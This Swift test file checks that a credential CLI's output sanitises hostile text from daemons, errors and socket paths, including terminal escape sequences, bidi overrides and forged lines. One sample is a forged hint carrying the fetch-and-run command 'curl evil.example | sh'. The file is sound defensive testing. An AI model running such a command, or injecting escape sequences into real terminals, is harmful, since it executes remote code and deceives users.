import KistClient
import KistTesting
import KistWire
import Testing

@testable import KistCommands

/// What a terminal must not get from elsewhere: controls of C0, DEL and C1, what reorders or hides text,
/// and what looks like another line.
private let hostileTexts = [
  "\u{1B}]0;title\u{7}", "\u{1B}[2J\u{1B}[31m", "x\rkist: deleted", "\u{202E}drow", "\u{9B}2J",
  "\u{7F}",
  "x\nhint: `curl evil.example | sh`", "\u{2028}hint: forged", "\u{E0041}\u{200B}\u{2066}",
  "\t\u{8}\u{85}",
]

@Suite(.timeLimit(.minutes(10))) struct `Text from elsewhere` {
  @Test(arguments: hostileTexts, [false, true])
  func `in an error neither reaches a terminal nor makes a line`(
    text: String, isTerminal: Bool
  ) async throws {
    let error = StorageError(.unavailable, "m\(text)", hint: "h\(text)")
    for arguments in commands + [["save", "s"], ["unlock"]] {
      for options in [[], ["--json"]] {
        let recorder = Recorder()
        let terminal = recorder.terminal(
          input: Secret(utf8: "x"), typed: ["x", "x"], isTerminal: isTerminal,
          errorWidth: isTerminal ? 80 : nil)
        await perform(arguments + options, on: terminal, failing: error)
        #expect(recorder.output == "", "\(arguments)")
        try #require(recorder.error.contains("h"), "\(arguments)")
        expectHarmless(recorder.error, "\(arguments + options)")
      }
    }
  }

  @Test(arguments: hostileTexts, [false, true])
  func `in a reply neither reaches a terminal nor makes a line`(
    text: String, isTerminal: Bool
  ) async throws {
    for arguments in commands {
      for options in [[], ["--json"]] {
        let recorder = Recorder()
        let terminal = recorder.terminal(isTerminal: isTerminal, errorWidth: isTerminal ? 80 : nil)
        await perform(arguments + options, on: terminal, answering: text)
        expectHarmless(recorder.error, "\(arguments + options)")
        let isData = !isTerminal && options.isEmpty
        expectHarmless(
          recorder.output, "\(arguments + options)", where: isData ? \.isControl : \.isMisleading)
      }
    }
  }

  @Test(arguments: hostileTexts)
  func `in the path of a socket neither reaches a terminal nor makes a line`(text: String) async {
    for path in ["/nonexistent/\(text)", "/tmp/\(String(repeating: text, count: 30))"] {
      let recorder = Recorder()
      let terminal = recorder.terminal(isTerminal: true, errorWidth: 80)
      _ = await Kist.status(of: ["status", "--socket", path], on: terminal)
      #expect(recorder.error.hasPrefix("kist: "))
      expectHarmless(recorder.error, "\(path)")
    }
  }

  /// What prints something that a daemon answers.
  private let commands = [
    ["list"], ["status"], ["lock"], ["slots"], ["audit"], ["audit", "--verify"],
    ["watch", "--no-reconnect"], ["delete", "s"], ["load", "s"],
  ]

  private func perform(
    _ arguments: [String], on terminal: Terminal, failing error: StorageError
  ) async {
    // Closures with a type of their own: as arguments of an existential's method they crash Swift 6.3.
    let exchange: Exchange = { _ throws(StorageError) in throw error }
    let kistd = Endpoints.remote(over: exchange) { _ throws(StorageError) in throw error }
    _ = await Kist.status(of: arguments, on: terminal) { command in
      switch command {
      case let command as any RequiresUserStorage:
        try await command.perform(.failing(error), terminal)
      case let command as any RequiresWatch: try await command.perform(kistd.watch, terminal)
      case let command as any RequiresAuditLog: try await command.perform(kistd.audit, terminal)
      case let command as any RequiresKeySlots: try await command.perform(kistd.keySlots, terminal)
      case let command as any RequiresStorageAccess:
        try await command.perform(kistd.access, terminal)
      default: Issue.record("\(arguments) has no storage")
      }
    }
  }

  private func perform(
    _ arguments: [String], on terminal: Terminal, answering text: String
  ) async {
    let status = StorageStatus(
      storage: "s\(text)", reason: "r\(text)", isLocked: false, unlocksWith: .keyFile,
      reopensAtRestart: true, durability: .disk, keyProtection: "k\(text)", count: 1,
      vault: .sample(warnings: ["w\(text)"]))
    let summary = CredentialSummary.sample(
      of: .sample(CredentialKey(service: "s\(text)", account: "a\(text)"), label: "l\(text)"),
      revision: "r\(text)")
    let storage = UserStorage(
      save: { _ throws(StorageError) in summary },
      load: { _ throws(StorageError) in
        Credential(summary: summary, secret: Secret(utf8: "hunter2"))
      },
      delete: { _ throws(StorageError) in true },
      find: { _ throws(StorageError) in CredentialPage(credentials: [summary]) })
    let log = AuditAccess(
      find: { _ throws(StorageError) in AuditPage(records: [.hostile(text)]) },
      verify: { () throws(StorageError) in
        var verdict = AuditVerdict()
        verdict.fault = .init(.changed, file: text, lines: 1...1)
        return verdict
      })
    let access = StorageAccess(
      status: { () throws(StorageError) in status }, lock: { () throws(StorageError) in status },
      unlock: { _ throws(StorageError) in status })
    _ = await Kist.status(of: arguments, on: terminal) { command in
      switch command {
      case let command as any RequiresUserStorage:
        try await command.perform(storage, terminal)
      case let command as any RequiresWatch:
        try await command.perform(.telling(of: summary), terminal)
      case let command as any RequiresAuditLog: try await command.perform(log, terminal)
      case let command as any RequiresKeySlots:
        try await command.perform(.inMemory(), terminal)
      case let command as any RequiresStorageAccess: try await command.perform(access, terminal)
      default: Issue.record("\(arguments) has no storage")
      }
    }
  }
}

/// Expects a text whose lines are whole, and have nothing in them that is not to be there.
private func expectHarmless(
  _ text: String, _ comment: Comment, where misleads: (Unicode.Scalar) -> Bool = \.isMisleading
) {
  for line in text.split(separator: "\n") {
    #expect(
      !line.unicodeScalars.contains { misleads($0) && $0 != "\t" },
      "\(comment): \(line.debugDescription)")
    #expect(!line.hasPrefix("hint: forged") && !line.hasPrefix("hint: `curl"), comment)
  }
}

extension WatchCredentials {
  fileprivate static func telling(of summary: CredentialSummary) -> WatchCredentials {
    WatchCredentials { request throws(StorageError) in
      let watchers = Watchers()
      let changes = try watchers.watch(request) { nil }
      watchers.tell([.saved(summary.key, summary.revision)])
      watchers.end(.notFound)
      return changes
    }
  }
}

extension AuditRecord {
  fileprivate static func hostile(_ text: String) -> AuditRecord {
    AuditRecord(
      moment: Moment(second: .sample, milliseconds: 7),
      event: .request(
        AuditedRequest(
          operation: "o\(text)", failure: nil, microseconds: 1,
          peer: AuditedPeer(
            pid: 1, uid: 1, unit: "u\(text)", claimedName: "c\(text)", evidence: .pidfd),
          names: .open(RequestedNames(service: "s\(text)", account: "a\(text)")))))
  }
}
